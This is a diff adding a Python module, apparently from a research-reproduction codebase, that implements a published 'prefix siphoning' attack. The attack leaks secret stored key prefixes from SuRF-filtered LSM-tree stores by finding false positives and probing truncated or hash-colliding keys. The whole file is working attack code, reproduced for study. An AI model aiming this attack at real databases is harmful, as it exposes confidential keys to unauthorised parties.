@@ -1,0 +1,238 @@
+"""Prefix siphoning instantiation against SuRF (paper section 6).
+
+``FindFPK`` is pure random guessing: a few hundred to a few thousand
+uniform keys hit a false positive because SuRF's FPR is small but
+non-negligible (characteristic C3(2)).
+
+``IdPrefix`` exploits SuRF's structure — any key carrying only a *proper*
+prefix of the stored pruned prefix is negative — in two interchangeable
+modes (section 6.2.2):
+
+* **truncate** — remove trailing symbols one at a time; the shortest
+  positive truncation is the shared prefix.  Needs variable-length query
+  support (our service has it).
+* **replace** — for fixed-length systems: change one symbol at a time from
+  the back; the first position whose change turns the key negative ends
+  the prefix.
+
+Against SuRF-Hash, modifying the key changes its hash, so probes are
+restricted to modified keys whose (public) hash collides with the FP key's;
+positions with no colliding symbol are skipped, which can only shorten —
+never overextend — the identified prefix.
+
+Both modes run breadth-first across all FP keys: each outer step issues one
+batch of probes covering every unresolved key, with cache-eviction waits
+only between batches (section 9).
+"""
+
+from __future__ import annotations
+
+from typing import Dict, List, Optional, Sequence, Tuple
+
+from repro.common.errors import AttackError, ConfigError
+from repro.core.extension import HashConstraint
+from repro.core.oracle import QueryOracle
+from repro.core.results import PrefixCandidate
+from repro.common.rng import make_rng
+from repro.filters.hashing import suffix_hash_bits
+from repro.filters.surf.suffix import SuffixScheme, SurfVariant
+
+
+class SurfAttackStrategy:
+    """FindFPK + IdPrefix for LSM-trees filtered by SuRF."""
+
+    def __init__(self, key_width: int,
+                 filter_scheme: SuffixScheme,
+                 mode: str = "truncate",
+                 confirm_probes: int = 1,
+                 candidate_prefix: bytes = b"",
+                 seed: int = 0) -> None:
+        """``filter_scheme`` is the attacker's knowledge of the deployed
+        SuRF variant (variant + suffix bits); the paper assumes it is
+        public (section 6.2.2).  ``confirm_probes`` probes per position in
+        replace mode harden against accidental positives from unrelated
+        stored prefixes.  ``candidate_prefix`` pins the start of every
+        FindFPK guess — for targets whose key format is partially known,
+        like a database storage engine where keys begin with a public
+        table id (paper section 3, "explicitly secret keys").
+        """
+        if key_width <= 0:
+            raise ConfigError(f"key width must be positive, got {key_width}")
+        if mode not in ("truncate", "replace"):
+            raise ConfigError(f"unknown IdPrefix mode {mode!r}")
+        if confirm_probes < 1:
+            raise ConfigError("confirm_probes must be at least 1")
+        if len(candidate_prefix) >= key_width:
+            raise ConfigError("candidate prefix must be shorter than the key")
+        if filter_scheme.variant is SurfVariant.HASH and mode == "truncate":
+            # Truncation changes the key's hash, so truncated probes are
+            # rejected regardless of the prefix; replacement with
+            # hash-colliding symbols is the only workable mode (6.2.2).
+            mode = "replace"
+        self.key_width = key_width
+        self.scheme = filter_scheme
+        self.mode = mode
+        self.confirm_probes = confirm_probes
+        self.candidate_prefix = candidate_prefix
+        self._rng = make_rng(seed, "surf-attack")
+
+    # ------------------------------------------------------------ step 1 (C2)
+
+    def generate_candidates(self, count: int) -> List[bytes]:
+        """Uniformly random keys — FindFPK's guess stream.
+
+        Random over the full width, or over the unknown tail when a
+        ``candidate_prefix`` pins the format's public part.
+        """
+        tail = self.key_width - len(self.candidate_prefix)
+        return [self.candidate_prefix + self._rng.random_bytes(tail)
+                for _ in range(count)]
+
+    def find_false_positives(self, oracle: QueryOracle,
+                             candidates: Sequence[bytes]) -> List[bytes]:
+        """Keys the oracle classifies positive (overwhelmingly FPs)."""
+        verdicts = oracle.classify(candidates)
+        return [key for key, positive in zip(candidates, verdicts) if positive]
+
+    # ------------------------------------------------------------ step 2 (C2)
+
+    def identify_prefixes(self, oracle: QueryOracle,
+                          fp_keys: Sequence[bytes]) -> List[PrefixCandidate]:
+        """Run IdPrefix breadth-first over all FP keys."""
+        if self.mode == "truncate":
+            prefixes = self._identify_by_truncation(oracle, fp_keys)
+        else:
+            prefixes = self._identify_by_replacement(oracle, fp_keys)
+        return [
+            PrefixCandidate(fp_key=fp, prefix=prefix,
+                            hash_value=self._hash_value(fp))
+            for fp, prefix in prefixes
+        ]
+
+    def _identify_by_truncation(self, oracle: QueryOracle,
+                                fp_keys: Sequence[bytes]
+                                ) -> List[Tuple[bytes, bytes]]:
+        pending: Dict[int, bytes] = dict(enumerate(fp_keys))
+        resolved: Dict[int, bytes] = {}
+        for length in range(self.key_width - 1, 0, -1):
+            if not pending:
+                break
+            indices = list(pending)
+            batch = [pending[i][:length] for i in indices]
+            verdicts = oracle.classify(batch)
+            for i, positive in zip(indices, verdicts):
+                if not positive:
+                    # First negative truncation: the one-longer prefix is
+                    # the shared prefix k'.
+                    resolved[i] = pending.pop(i)[: length + 1]
+            oracle.wait_for_eviction()
+        for i, fp in pending.items():
+            # Positive all the way down: only the first symbol is certain.
+            resolved[i] = fp[:1]
+        return [(fp_keys[i], resolved[i]) for i in sorted(resolved)]
+
+    def _identify_by_replacement(self, oracle: QueryOracle,
+                                 fp_keys: Sequence[bytes]
+                                 ) -> List[Tuple[bytes, bytes]]:
+        pending: Dict[int, bytes] = dict(enumerate(fp_keys))
+        resolved: Dict[int, bytes] = {}
+        for position in range(self.key_width - 1, -1, -1):
+            if not pending:
+                break
+            probes: List[bytes] = []
+            spans: List[Tuple[int, int]] = []  # (fp index, probe count)
+            for i in list(pending):
+                candidates = self._replacement_probes(pending[i], position)
+                if not candidates:
+                    continue  # no hash-colliding symbol: position untestable
+                spans.append((i, len(candidates)))
+                probes.extend(candidates)
+            if not probes:
+                continue
+            verdicts = oracle.classify(probes)
+            cursor = 0
+            for i, count in spans:
+                slice_verdicts = verdicts[cursor : cursor + count]
+                cursor += count
+                if not all(slice_verdicts):
+                    # Changing this symbol flipped the filter: the symbol
+                    # is part of the shared prefix, which ends here.
+                    resolved[i] = pending.pop(i)[: position + 1]
+            oracle.wait_for_eviction()
+        for i, fp in pending.items():
+            resolved[i] = fp[:1]
+        return [(fp_keys[i], resolved[i]) for i in sorted(resolved)]
+
+    def _replacement_probes(self, fp_key: bytes, position: int) -> List[bytes]:
+        original = fp_key[position]
+        out: List[bytes] = []
+        if self.scheme.variant is SurfVariant.HASH:
+            target = self._hash_value(fp_key)
+            for value in range(256):
+                if value == original:
+                    continue
+                probe = fp_key[:position] + bytes([value]) + fp_key[position + 1:]
+                if suffix_hash_bits(probe, self.scheme.num_bits) == target:
+                    out.append(probe)
+                    if len(out) == self.confirm_probes:
+                        break
+            if not out:
+                out = self._paired_hash_probes(fp_key, position, target)
+            return out
+        # Non-hash variants: any differing symbols work; spread the probes.
+        step = max(1, 256 // (self.confirm_probes + 1))
+        for k in range(1, self.confirm_probes + 1):
+            value = (original + k * step) % 256
+            if value == original:
+                continue
+            out.append(fp_key[:position] + bytes([value]) + fp_key[position + 1:])
+        return out
+
+    def _paired_hash_probes(self, fp_key: bytes, position: int,
+                            target: int) -> List[bytes]:
+        """Two-byte modifications when no single symbol hash-collides.
+
+        With b-bit hashes and 8-bit symbols, a fraction (1 - 2**-b)**255 of
+        positions (~37% at b=8) admit no single-symbol collision, leaving
+        the position untestable and collapsing the identified prefix.  The
+        fix stays within the paper's framework: also vary the last symbol —
+        already established as suffix-side by the right-to-left scan — so
+        the probe still isolates ``position``: if ``position`` is inside
+        the shared prefix the path diverges there regardless of the last
+        symbol; if it is suffix-side, the probe reaches the same leaf and
+        the enforced hash collision makes it positive.
+        """
+        partner = self.key_width - 1
+        if position >= partner:
+            return []
+        out: List[bytes] = []
+        for value in range(1, 256):
+            new_byte = (fp_key[position] + value) % 256
+            base = (fp_key[:position] + bytes([new_byte])
+                    + fp_key[position + 1:])
+            for last in range(256):
+                if last == fp_key[partner]:
+                    continue
+                probe = base[:partner] + bytes([last])
+                if suffix_hash_bits(probe, self.scheme.num_bits) == target:
+                    out.append(probe)
+                    break
+            if len(out) == self.confirm_probes:
+                break
+        return out
+
+    # ----------------------------------------------------------- step 3 hints
+
+    def hash_constraint_for(self, candidate: PrefixCandidate
+                            ) -> Optional[HashConstraint]:
+        """Step-3 pruning constraint (SuRF-Hash only)."""
+        if self.scheme.variant is not SurfVariant.HASH:
+            return None
+        if candidate.hash_value is None:
+            raise AttackError("hash-variant candidate is missing its hash value")
+        return HashConstraint(self.scheme.num_bits, candidate.hash_value)
+
+    def _hash_value(self, fp_key: bytes) -> Optional[int]:
+        if self.scheme.variant is not SurfVariant.HASH:
+            return None
+        return suffix_hash_bits(fp_key, self.scheme.num_bits)
